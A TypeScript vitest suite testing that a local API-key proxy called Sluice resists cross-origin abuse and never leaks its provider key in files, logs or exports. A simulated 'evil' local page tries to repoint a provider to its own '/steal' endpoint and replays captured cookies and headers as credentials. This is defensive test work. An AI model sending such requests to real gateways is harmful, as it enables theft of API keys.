import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Anthropic from '@anthropic-ai/sdk';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../e2e/support/browser';
import { startDashboardApp, type DashboardApp } from '../e2e/support/app';
import { anthropicFrames } from '../e2e/support/anthropic-stream';
import { runUsageCommand } from '../../src/main/app/usage-command';
import { FakeUpstream, type FakeReply } from '../support/fake-upstream';
import { startSluice, type TestSluice } from '../support/sluice';

const KEY = 'sk-ant-SECRET-0123456789abcdef';
const KEY_FORMS: { name: string; bytes: Buffer }[] = [
  { name: 'raw', bytes: Buffer.from(KEY, 'utf8') },
  { name: 'base64', bytes: Buffer.from(Buffer.from(KEY, 'utf8').toString('base64'), 'utf8') },
  { name: 'base64url', bytes: Buffer.from(Buffer.from(KEY, 'utf8').toString('base64url'), 'utf8') },
  { name: 'utf16le', bytes: Buffer.from(KEY, 'utf16le') },
  { name: 'hex', bytes: Buffer.from(Buffer.from(KEY, 'utf8').toString('hex'), 'utf8') },
];

/** Every form of the key found in `bytes`, by name. */
function keyFormsIn(bytes: Buffer): string[] {
  return KEY_FORMS.filter((f) => bytes.includes(f.bytes)).map((f) => f.name);
}

function listFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    return e.isDirectory() ? listFiles(p) : [p];
  });
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

describe('a real browser page cannot use Sluice cross-origin', () => {
  let browser: Browser;
  let upstream: FakeUpstream;
  let sluice: TestSluice;
  let page: http.Server;
  let pageUrl = '';

  beforeAll(async () => {
    upstream = await new FakeUpstream(() => ({ chunks: anthropicFrames(['hi']) })).start();
    sluice = await startSluice({
      providers: [{ id: 'anth', kind: 'anthropic', baseUrl: upstream.url, apiKey: KEY }],
    });
    page = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end('<!doctype html><html><head><title>evil</title></head><body>hello</body></html>');
    });
    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
    pageUrl = `http://127.0.0.1:${(page.address() as AddressInfo).port}/`;
    browser = await launchChromium();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await sluice?.close();
    await upstream?.close();
    if (page) {
      page.closeAllConnections();
      await new Promise<void>((resolve) => page.close(() => resolve()));
    }
  });

  it('refuses the preflighted fetch and the no-cors simple POST; the upstream sees nothing', async () => {
    const ctx = await browser.newContext();
    try {
      const tab = await ctx.newPage();
      // What Sluice answers, as seen on the wire (the page only sees an opaque failure).
      const seen: { method: string; url: string; status: number }[] = [];
      tab.on('response', (r) => {
        if (r.url().startsWith(sluice.url))
          seen.push({ method: r.request().method(), url: r.url(), status: r.status() });
      });
      await tab.goto(pageUrl);
      expect(new URL(tab.url()).origin).not.toBe(new URL(sluice.url).origin);

      const cors = await tab.evaluate(async (target) => {
        try {
          const res = await fetch(`${target}/v1/messages`, {
            method: 'POST',
            headers: {
              'content-type': 'application/json',
              'x-api-key': 'x',
              'anthropic-version': '2023-06-01',
            },
            body: JSON.stringify({ model: 'm', max_tokens: 5, messages: [] }),
          });
          return { rejected: false, status: res.status, body: await res.text() };
        } catch (e) {
          return { rejected: true, error: String(e) };
        }
      }, sluice.url);
      expect(cors).toMatchObject({ rejected: true, error: expect.stringContaining('Failed to fetch') });

      // Preflight made with a plain Node client, as Chromium would send it, to pin the status.
      const origin = new URL(pageUrl).origin;
      const preflight = await fetch(`${sluice.url}/v1/messages`, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'anthropic-version,content-type,x-api-key',
        },
      });
      expect(preflight.status).toBe(403);
      expect(preflight.headers.get('access-control-allow-origin')).toBeNull();

      const simple = await tab.evaluate(async (target) => {
        try {
          const res = await fetch(`${target}/v1/messages`, { method: 'POST', mode: 'no-cors', body: '{}' });
          return { rejected: false, type: res.type, status: res.status };
        } catch (e) {
          return { rejected: true, error: String(e) };
        }
      }, sluice.url);
      // An opaque response: the page learns nothing, but the request itself was sent.
      expect(simple).toMatchObject({ rejected: false, type: 'opaque', status: 0 });

      // The same simple request from Node, with the page's Origin, to pin Sluice's answer.
      const direct = await fetch(`${sluice.url}/v1/messages`, {
        method: 'POST',
        headers: { origin, 'content-type': 'text/plain;charset=UTF-8' },
        body: '{}',
      });
      expect(direct.status).toBe(403);

      await sleep(300);
      expect(upstream.requests).toEqual([]);
      // Whatever Chromium's network layer saw of Sluice's answers was a refusal.
      for (const s of seen) expect(s.status, `${s.method} ${s.url}`).toBe(403);
    } finally {
      await ctx.close();
    }
  }, 60_000);
});

describe('a page on another local port that has seen the dashboard cannot use the control API', () => {
  let browser: Browser;
  let upstream: FakeUpstream;
  let sluice: DashboardApp;
  /** Another local program: its page, and what its server is sent (a cookie for 127.0.0.1 reaches it). */
  let evil: http.Server;
  let evilUrl = '';
  const sentToEvil: { url: string; cookie: string | undefined; headers: http.IncomingHttpHeaders }[] = [];

  beforeAll(async () => {
    upstream = await new FakeUpstream(() => ({ chunks: anthropicFrames(['hi']) })).start();
    sluice = await startDashboardApp({
      providers: [{ id: 'anth', kind: 'anthropic', baseUrl: upstream.url, apiKey: KEY }],
    });
    evil = http.createServer((req, res) => {
      sentToEvil.push({ url: req.url ?? '', cookie: req.headers.cookie, headers: req.headers });
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end('<!doctype html><html><head><title>evil</title></head><body>hello</body></html>');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await sluice?.close();
    await upstream?.close();
    if (evil) {
      evil.closeAllConnections();
      await new Promise<void>((resolve) => evil.close(() => resolve()));
    }
  });

  it('finds no credential in cookies, storage or requests, and every control call it tries is refused', async () => {
    const ctx = await browser.newContext();
    try {
      const tab = await ctx.newPage();
      // The user opens the dashboard with its link: signed in, pushes flowing.
      await tab.goto(sluice.dashboardUrl);
      await tab.locator('header[data-live="open"]').waitFor({ timeout: 10_000 });
      expect(tab.url()).not.toContain('token=');

      // Then, in the same browser, a page of another local program, on another port.
      await tab.goto(`${evilUrl}/`);
      const found = await tab.evaluate(
        async ({ target, own }) => {
          const tries: Record<string, string> = {};
          // Its own server is sent whatever cookies the browser holds for 127.0.0.1 under /_sluice/.
          await fetch(`${own}/_sluice/api/providers.list`, { credentials: 'include' });
          await fetch(`${own}/_sluice/`, { credentials: 'include' });
          const attempt = async (name: string, init: RequestInit, url: string): Promise<void> => {
            try {
              const res = await fetch(url, { credentials: 'include', ...init });
              tries[name] = `${res.type} ${res.status}`;
            } catch (e) {
              tries[name] = `rejected ${String(e)}`;
            }
          };
          const save = JSON.stringify({
            provider: { id: 'anth', kind: 'anthropic', baseUrl: `${own}/steal` },
          });
          await attempt(
            'cors save',
            { method: 'POST', headers: { 'content-type': 'application/json' }, body: save },
            `${target}/_sluice/api/providers.save`,
          );
          await attempt(
            'no-cors save',
            { method: 'POST', mode: 'no-cors', body: save },
            `${target}/_sluice/api/providers.save`,
          );
          await attempt('events', { method: 'GET' }, `${target}/_sluice/api/events`);
          await attempt('session', { method: 'POST', mode: 'no-cors' }, `${target}/_sluice/api/session`);
          return tries;
        },
        { target: sluice.url, own: evilUrl },
      );
      // Nothing of Sluice's in what this page can read: no cookie, no session (sessionStorage is per origin).
      expect(await tab.evaluate<string>('document.cookie')).toBe('');
      expect(await tab.evaluate<string>('JSON.stringify({ ...sessionStorage, ...localStorage })')).toBe('{}');
      // Cross-origin reads fail in the browser; what went out was refused by Sluice (checked below).
      expect(found['cors save']).toContain('rejected');
      expect(found.events).toContain('rejected');

      // Whatever the other program's server was sent, it replays from outside the browser.
      const captured = sentToEvil.flatMap((r) => [
        ...(r.cookie ?? '').split(';').map((c) => c.slice(c.indexOf('=') + 1).trim()),
        ...Object.values(r.headers).flatMap((v) => (typeof v === 'string' ? [v] : (v ?? []))),
      ]);
      expect(captured.join('\n')).not.toContain(sluice.app.token);
      const hex = captured.filter((v) => /^[0-9a-f]{64}$/.test(v));
      for (const value of [...hex, 'x'])
        for (const headers of [
          { authorization: `Bearer ${value}` } as Record<string, string>,
          { cookie: `sluice_token_${sluice.app.port}=${value}` },
          { 'x-sluice-session': value, origin: sluice.url },
        ]) {
          const res = await fetch(`${sluice.url}/_sluice/api/providers.list`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...headers },
            body: '{}',
          });
          expect(res.status, JSON.stringify(headers)).toBe(401);
        }
      // Nothing moved: the provider still points where it did, with its key.
      expect(sluice.app.config.providers()[0]).toMatchObject({ baseUrl: upstream.url, apiKey: KEY });
      expect(sentToEvil.map((r) => r.url)).not.toContain('/steal/v1/models');
    } finally {
      await ctx.close();
    }
  }, 60_000);
});

describe('a real-looking provider key appears nowhere Sluice writes or shows', () => {
  let a: FakeUpstream;
  let b: FakeUpstream;
  let sluice: TestSluice;
  const logs: string[] = [];
  let modeA: 'ok' | 'json' | '529' = 'ok';
  let modeB: 'ok' | '529' = 'ok';

  const overloaded = (): FakeReply => ({
    status: 529,
    headers: { 'content-type': 'application/json' },
    chunks: [
      JSON.stringify({
        type: 'error',
        error: {
          type: 'overloaded_error',
          message: `Overloaded. Your key ${KEY} was received as: Authorization: Bearer ${KEY} (x-api-key: ${KEY})`,
        },
      }),
    ],
  });
  const reply = (mode: 'ok' | 'json' | '529'): FakeReply => {
    if (mode === '529') return overloaded();
    if (mode === 'json')
      return {
        headers: { 'content-type': 'application/json' },
        chunks: [
          JSON.stringify({
            id: 'msg_1',
            type: 'message',
            role: 'assistant',
            model: 'claude-sec',
            content: [{ type: 'text', text: 'plain' }],
            stop_reason: 'end_turn',
            stop_sequence: null,
            usage: { input_tokens: 3, output_tokens: 2 },
          }),
        ],
      };
    return { chunks: anthropicFrames(['hello', ' there'], 'claude-sec') };
  };

  beforeAll(async () => {
    a = await new FakeUpstream(() => reply(modeA)).start();
    b = await new FakeUpstream(() => reply(modeB)).start();
    sluice = await startSluice(
      {
        providers: [
          { id: 'anth-a', kind: 'anthropic', baseUrl: a.url, apiKey: KEY, priority: 1 },
          { id: 'anth-b', kind: 'anthropic', baseUrl: b.url, apiKey: KEY, priority: 2 },
        ],
        settings: { captureRequestBodies: true },
      },
      { log: (line) => logs.push(line) },
    );
  });

  afterAll(async () => {
    await a?.close();
    await b?.close();
    if (sluice) fs.rmSync(sluice.dataDir, { recursive: true, force: true });
  });

  it('is absent from every file in the data dir, the logs, the exports and the request details', async () => {
    const client = new Anthropic({ baseURL: sluice.url, apiKey: 'sk-ant-client', maxRetries: 0 });
    const streamText = async (): Promise<string> => {
      const stream = await client.messages.create({
        model: 'claude-sec',
        max_tokens: 64,
        messages: [{ role: 'user', content: 'hi' }],
        stream: true,
      });
      let text = '';
      for await (const ev of stream)
        if (ev.type === 'content_block_delta' && ev.delta.type === 'text_delta') text += ev.delta.text;
      return text;
    };

    // 1. A plain stream through A.
    expect(await streamText()).toBe('hello there');
    // 2. A non-streaming call through A.
    modeA = 'json';
    const msg = await client.messages.create({
      model: 'claude-sec',
      max_tokens: 64,
      messages: [{ role: 'user', content: 'hi' }],
    });
    expect(msg.content).toEqual([{ type: 'text', text: 'plain' }]);
    // 3. A answers 529 echoing the key; Sluice fails over to B.
    modeA = '529';
    expect(await streamText()).toBe('hello there');
    // 4. Both answer 529 echoing the key; the client gets an error.
    sluice.app.gateway.health.reset();
    modeB = '529';
    const failed = await streamText().then(
      () => null,
      (e: unknown) => e,
    );
    expect(failed).toBeInstanceOf(Anthropic.APIError);
    expect(a.requests.length).toBeGreaterThanOrEqual(3);
    expect(b.requests.length).toBeGreaterThanOrEqual(2);
    // The key really went upstream (so the test is not vacuous).
    expect(a.requests[0]!.headers['x-api-key']).toBe(KEY);

    await sluice.row((r) => r.status === 'failed', 5_000).catch(() => null);
    sluice.app.flushUsage();
    const rows = sluice.app.repo.listRequests({ limit: 1000 });
    expect(rows.length).toBe(4);

    const shown: { where: string; text: string }[] = [];
    // Request details (attempts with body heads, captured frames and bodies), as the inspector gets them.
    let sawBodyHead = false;
    for (const r of rows) {
      const detail = await sluice.app.control.api.call('requests.get', { requestId: r.requestId });
      expect(detail.ok).toBe(true);
      if (!detail.ok || detail.value === null) throw new Error(`no detail for ${r.requestId}`);
      const text = JSON.stringify(detail.value);
      if (/Overloaded/.test(text)) sawBodyHead = true;
      shown.push({ where: `requests.get ${r.requestId}`, text });
    }
    // The 529 body did land somewhere in the details (redacted), so the assertion below means something.
    expect(sawBodyHead).toBe(true);
    const page = await sluice.app.control.api.call('requests.page', { limit: 100 });
    shown.push({ where: 'requests.page', text: JSON.stringify(page) });
    // Exports: the control layer's CSVs and the CLI's `sluice usage`.
    for (const groupBy of [undefined, 'day', 'model', 'provider', 'client'] as const) {
      const csv = await sluice.app.control.api.call(
        'usage.exportCsv',
        groupBy === undefined ? {} : { groupBy },
      );
      expect(csv.ok).toBe(true);
      shown.push({ where: `usage.exportCsv ${groupBy ?? 'rows'}`, text: JSON.stringify(csv) });
    }
    const providers = await sluice.app.control.api.call('providers.list', {});
    shown.push({ where: 'providers.list', text: JSON.stringify(providers) });
    const settings = await sluice.app.control.api.call('settings.get', {});
    shown.push({ where: 'settings.get', text: JSON.stringify(settings) });

    sluice.app.flushUsage();
    await sluice.app.close(1_000);

    for (const args of [['--csv'], ['--json'], [], ['--json', '--group-by', 'provider']]) {
      let out = '';
      expect(runUsageCommand([...args, '--data-dir', sluice.dataDir], (s) => (out += s))).toBe(0);
      shown.push({ where: `sluice usage ${args.join(' ')}`, text: out });
    }
    shown.push({ where: 'operator log', text: logs.join('\n') });

    const leaks: string[] = [];
    for (const s of shown) {
      const forms = keyFormsIn(Buffer.from(s.text, 'utf8'));
      if (forms.length > 0) leaks.push(`${s.where}: ${forms.join(', ')}`);
    }

    const files = listFiles(sluice.dataDir);
    expect(files.map((f) => path.basename(f))).toEqual(expect.arrayContaining(['sluice.db', 'token']));
    for (const f of files) {
      const rel = path.relative(sluice.dataDir, f);
      const bytes = fs.readFileSync(f);
      // config.json is the test's own input (the operator's file), written before Sluice started:
      // it must be exactly what the test wrote, i.e. Sluice did not add anything to it.
      if (rel === 'config.json') {
        expect(JSON.parse(bytes.toString('utf8'))).toMatchObject({
          providers: [{ apiKey: KEY }, { apiKey: KEY }],
        });
        continue;
      }
      const forms = keyFormsIn(bytes);
      if (forms.length > 0) leaks.push(`${rel}: ${forms.join(', ')}`);
    }
    expect(leaks).toEqual([]);
  }, 60_000);
});
